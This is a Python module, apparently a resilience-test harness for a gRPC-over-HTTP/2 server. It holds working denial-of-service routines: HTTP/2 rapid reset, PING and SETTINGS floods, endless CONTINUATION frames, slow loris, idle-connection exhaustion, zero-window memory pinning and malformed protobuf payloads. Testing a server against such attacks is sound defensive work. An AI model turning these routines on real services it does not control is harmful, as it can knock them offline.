"""What strangers do to a port.  Each attack runs in processes of its own, at the lowest priority,
because here they share the processors with their victim.

An attack is `attack(port, until, count)`: it goes on until that moment of time.monotonic() and
counts, by name, what it did and what came back.
"""

import os
import random
import select
import socket
import struct
import time

import h2

BURST = 200          # streams opened and reset in one write
LORIS = 500
DRIBBLE_S = 1.0
IDLE = 10000


def linger(seconds, until):
    time.sleep(max(0.0, min(seconds, until - time.monotonic())))


def pour(port, until, count, make):
    """Writes make(first stream) as fast as it is taken; reads and drops what comes back."""
    while time.monotonic() < until:
        try:
            link = h2.connect(port)
        except h2.Closed:
            count["refused connections"] += 1
            linger(0.1, until)
            continue
        count["connections"] += 1
        stream = 1
        try:
            link.sendall(h2.HELLO)
            while time.monotonic() < until and stream < 1 << 30:
                data, streams, what = make(stream)
                drain(link)
                link.sendall(data)
                stream += 2 * streams
                count[what] += max(streams, 1)
        except OSError:
            count["cut off"] += 1
        link.close()


def drain(link):
    try:
        while link.recv(1 << 16, socket.MSG_DONTWAIT):
            pass
    except BlockingIOError:
        pass


# ---- Streams opened and reset --------------------------------------------------------------------

BLOCK = h2.request_headers()
OPEN = h2.frame(h2.HEADERS, h2.END_HEADERS, 0, BLOCK)
BODY = h2.frame(h2.DATA, h2.END_STREAM, 0, h2.message(h2.execute("reset", ("p1", "p2"), 2)))
CANCEL = h2.frame(h2.RST_STREAM, 0, 0, struct.pack(">I", 8))


def on_stream(raw, stream):
    return raw[:5] + struct.pack(">I", stream) + raw[9:]


def reset_make(stream):
    """Every other burst is a whole request, so that a handler is begun before the reset."""
    whole = stream // 2 // BURST % 2
    parts = []
    for number in range(stream, stream + 2 * BURST, 2):
        parts.append(on_stream(OPEN, number))
        if whole:
            parts.append(on_stream(BODY, number))
        parts.append(on_stream(CANCEL, number))
    return b"".join(parts), BURST, "resets"


def rapid_reset(port, until, count):
    pour(port, until, count, reset_make)


# ---- Streams without end, of one that never acknowledges our settings ----------------------------

def unsettled_make(stream):
    """Nothing is reset: each is a request like another."""
    numbers = range(stream, stream + 2 * BURST, 2)
    return b"".join(on_stream(OPEN, number) + on_stream(BODY, number) for number in numbers), BURST, "streams"


def unsettled(port, until, count):
    pour(port, until, count, unsettled_make)


# ---- Frames that want an answer, and headers without an end --------------------------------------

PINGS = h2.frame(h2.PING, 0, 0, b"12345678") * BURST
SETTINGS = h2.settings(window=65535) * BURST


def frame_flood(port, until, count):
    kinds = ((PINGS, "pings"), (SETTINGS, "settings"))
    turn = random.randrange(2)

    def make(stream):
        nonlocal turn
        turn += 1 if stream == 1 else 0
        data, what = kinds[turn // 50 % 2]
        return data, 0, what

    pour(port, until, count, make)


def header_flood(port, until, count):
    """One header block, continued for ever; then blocks that are larger than allowed."""
    line = h2.literal("x-" + "a" * 60, "b" * 4000)
    bomb = b"\x40" + h2.text("x-bomb") + h2.text("c" * 3900) + b"\xbe" * 4000

    def make(stream):
        if stream == 1:
            return (h2.frame(h2.HEADERS, h2.END_HEADERS, 1, BLOCK + bomb[:12000]), 1, "bombs")
        if stream < 400:
            return (h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK + line * 3), 1, "large blocks")
        if stream == 401:
            return h2.frame(h2.HEADERS, 0, stream, BLOCK), 1, "large blocks"
        return h2.frame(h2.CONTINUATION, 0, 401, line * 3) * 4, 1, "continuations"

    pour(port, until, count, make)


# ---- Few bytes, many connections -----------------------------------------------------------------

def slow_loris(port, until, count):
    """A byte a second: of the preface, of a header frame, of a message."""
    half = h2.HELLO + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, BLOCK)[:20]
    message = h2.HELLO + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, BLOCK)
    starts = [(b"", h2.HELLO), (half, BLOCK * 20), (message, BODY[:5] + b"\0\0\0\1" + BODY[9:])]
    links = [None] * LORIS
    while time.monotonic() < until:
        begin = time.monotonic()
        for i, held in enumerate(links):
            first, rest = starts[i % len(starts)]
            try:
                if held is None:
                    link = h2.connect(port)
                    link.sendall(first)
                    links[i] = held = [link, 0]
                    count["connections"] += 1
                drain(held[0])
                held[0].sendall(rest[held[1]:held[1] + 1])
                held[1] = min(held[1] + 1, len(rest) - 2)  # never the end
                count["bytes"] += 1
            except (OSError, h2.Closed):
                count["cut off"] += 1
                if held is not None:
                    held[0].close()
                links[i] = None
        linger(DRIBBLE_S - (time.monotonic() - begin), until)


def idle(port, until, count):
    """IDLE connections, each with a preface and nothing more.  Who is turned away comes again at once."""
    links = {}
    begin = time.monotonic()
    with select.epoll() as ends:
        while time.monotonic() < until:
            if len(links) < IDLE:
                try:
                    link = h2.connect(port)
                    links[link.fileno()] = link
                    ends.register(link, select.EPOLLRDHUP)
                    link.sendall(h2.HELLO)
                except (h2.Closed, OSError):
                    pass  # the poll tells of it
            full = len(links) == IDLE
            for number, _ in ends.poll(0.1 if full else 0):
                links.pop(number).close()
                count["turned away"] += 1
            if full and len(links) == IDLE and not count["ms until all stood"]:
                count["ms until all stood"] = int((time.monotonic() - begin) * 1000)
    count["idle at the end"] = len(links)
    count["too few"] = IDLE - len(links)
    for link in links.values():
        link.close()


# ---- Replies that nobody reads -------------------------------------------------------------------

ELEMENTS = h2.frame(h2.DATA, 0, 0, h2.message(b"\x0a\x00" * 1000))  # refused: no branches
ASKS = 4  # messages on a stream: a whole window, for not even the hello leaves
STREAM = h2.frame(h2.HEADERS, h2.END_HEADERS, 0, h2.request_headers("ExecuteStream"))


def unread(port, until, count):
    """ExecuteStreams without a byte of flow control for replies, two on a connection, all held open."""
    hello = h2.PREFACE + h2.settings(table=0, window=0)
    links = []
    while time.monotonic() < until:
        try:
            link = h2.connect(port)
            for number in (1, 3):
                link.sendall(hello + on_stream(STREAM, number) + on_stream(ELEMENTS, number) * ASKS)
                hello = b""
                count["streams"] += 1
                count["elements"] += 1000 * ASKS
            links.append(link)
        except (OSError, h2.Closed):
            count["cut off"] += 1
        hello = h2.PREFACE + h2.settings(table=0, window=0)
        linger(0.2, until)  # it is the memory that is after, not the processors
    for link in links:
        link.close()


ASK = h2.frame(h2.HEADERS, h2.END_HEADERS, 0, h2.request_headers("Get"))
GID = h2.frame(h2.DATA, h2.END_STREAM, 0, h2.message(h2.bytes_field(1, "unread")))
TOMB = h2.frame(h2.HEADERS, h2.END_HEADERS, 0, h2.request_headers("Cancel"))
CALLS = 250  # on a connection: fewer than it may open


def unread_answers(port, until, count):
    """Unary calls without a byte of flow control for their answers, all held open."""
    links = []
    while time.monotonic() < until:
        try:
            link = h2.connect(port)
            link.sendall(h2.PREFACE + h2.settings(table=0, window=0) + on_stream(TOMB, 1) + on_stream(GID, 1))
            while not link.recv(1 << 16):
                pass
            link.sendall(h2.frame(h2.SETTINGS, 1, 0))
            for number in range(3, 2 * CALLS, 2):
                link.sendall(on_stream(ASK, number) + on_stream(GID, number))
            count["calls"] += CALLS
            links.append(link)
        except (OSError, h2.Closed):
            count["cut off"] += 1
        linger(0.02, until)
    for link in links:
        link.close()


# ---- Messages that are not what they seem --------------------------------------------------------

def nested(levels):
    """An ExecuteRequest within a branch's unknown field 100, and so on."""
    out = b""
    for _ in range(levels):
        out = h2.bytes_field(100, out)
        if len(out) > 1 << 20:
            break
    return out


GOOD = h2.execute("malformed", ("p1", "p2"), 2)
MALFORMED = {
    "nested messages": dict(body=GOOD + nested(20000)),
    "nested groups": dict(body=GOOD + b"\xa3\x06" * 500000),
    "closed groups": dict(body=GOOD + b"\xa3\x06" * 200000 + b"\xa4\x06" * 200000),
    "unknown 4 MiB": dict(body=GOOD + h2.bytes_field(99, bytes((4 << 20) - 1000))),
    "unknown many": dict(body=GOOD + b"\x98\x06\x01" * 1000000),
    "10000 branches": dict(body=h2.bytes_field(1, "b") +
                           h2.bytes_field(2, h2.bytes_field(1, "p1")) * 10000),
    "million branches": dict(body=h2.bytes_field(1, "b") + b"\x12\x00" * 1000000),
    "huge gid": dict(body=h2.bytes_field(1, b"g" * (3 << 20))),
    "huge payload": dict(body=h2.bytes_field(1, "g") + h2.bytes_field(2, h2.bytes_field(
        3, bytes(3 << 20)))),
    "length 2^31": dict(body=b"\x0a" + h2.varint(1 << 31) + b"g"),
    "length 2^63": dict(body=b"\x0a" + h2.varint(1 << 63) + b"g"),
    "endless varint": dict(body=b"\x18" + b"\xff" * 1000),
    "cut off": dict(body=GOOD[:-1] if GOOD[-1] < 128 else GOOD[:-2]),
    "field 0": dict(body=b"\x02\x01a" + GOOD),
    "frame of 4 GiB": dict(body=b"g", size=0xFFFFFFFF),
    "frame of 5 MiB": dict(body=bytes(5 << 20)),
    "not compressed": dict(body=os.urandom(1000), compressed=1,
                           more=h2.literal("grpc-encoding", "gzip")),
}


def malformed(port, until, count):
    """Every one must be answered with an error, and soon."""
    names = list(MALFORMED)
    random.seed(os.getpid())
    random.shuffle(names)
    connection = None
    while time.monotonic() < until:
        name = names[0]
        names.append(names.pop(0))
        try:
            if connection is None:
                connection = h2.Connection(port)
            status, _ = connection.call(timeout=10, **MALFORMED[name])
            count[f"{name}: {status}"] += 1
            if status == 0:
                count["accepted"] += 1
        except h2.Closed as error:
            count[f"{name}: {error}"] += 1
            if str(error) in ("no answer in time", "timed out"):
                count["unanswered"] += 1
            connection = None


# ---- Not HTTP/2 ----------------------------------------------------------------------------------

TLS = bytes.fromhex("16030100c8010000c40303") + bytes(189)
GARBAGE = (
    lambda: os.urandom(random.randrange(1, 4096)),
    lambda: TLS,
    lambda: b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
    lambda: b"PUT / HTTP/1.0\r\n" + b"a: b\r\n" * 5000,
    lambda: h2.PREFACE + os.urandom(4096),
    lambda: h2.HELLO + b"".join(h2.frame(random.randrange(12), random.randrange(256),
                                         random.randrange(8), os.urandom(random.randrange(64)))
                                for _ in range(50)),
    lambda: h2.HELLO + b"\xff\xff\xff" + bytes((h2.DATA, 0)) + b"\0\0\0\1" + bytes(60000),
    lambda: h2.HELLO + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, os.urandom(2000)),
    lambda: h2.HELLO + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, BLOCK + h2.literal("te", "x") +
                                h2.literal(":scheme", "x") + h2.literal("grpclb_client_stats", "y") +
                                h2.literal("x-large", "z" * 9000)),
)


def garbage(port, until, count):
    turn = 0
    while time.monotonic() < until:
        turn += 1
        try:
            link = h2.connect(port)
            link.sendall(GARBAGE[turn % len(GARBAGE)]())
            link.settimeout(0.01)
            link.recv(4096)
        except (OSError, h2.Closed):
            pass
        else:
            link.close()
        count["connections"] += 1
